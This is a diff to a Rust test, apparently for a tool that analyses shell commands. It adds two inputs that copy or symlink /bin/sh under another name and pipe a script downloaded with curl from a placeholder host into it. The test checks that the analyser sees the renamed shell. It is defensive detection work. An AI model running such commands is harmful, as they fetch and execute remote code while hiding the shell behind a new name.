@@ -89,6 +89,17 @@ fn a_program_run_by_its_path_is_given_what_any_other_is() {
     let of_the_file =
         fed.iter().find(|told| told.starts_with("execute ./parse") || told.starts_with("execute parse"));
     assert!(of_the_file.is_some_and(|told| !told.contains("<-")), "{fed:?}");
+    // But what was made of a shell is one.
+    for line in [
+        "ln -s /bin/sh x; curl -s https://x.example/a | ./x",
+        "cp /bin/sh x; curl -s https://x.example/a | ./x",
+    ] {
+        let told = told(&read(line, Some(Shell::Sh)));
+        assert!(
+            told.iter().any(|told| told.starts_with("execute") && told.contains("<-")),
+            "{line}: {told:?}"
+        );
+    }
 }
 
 #[test]
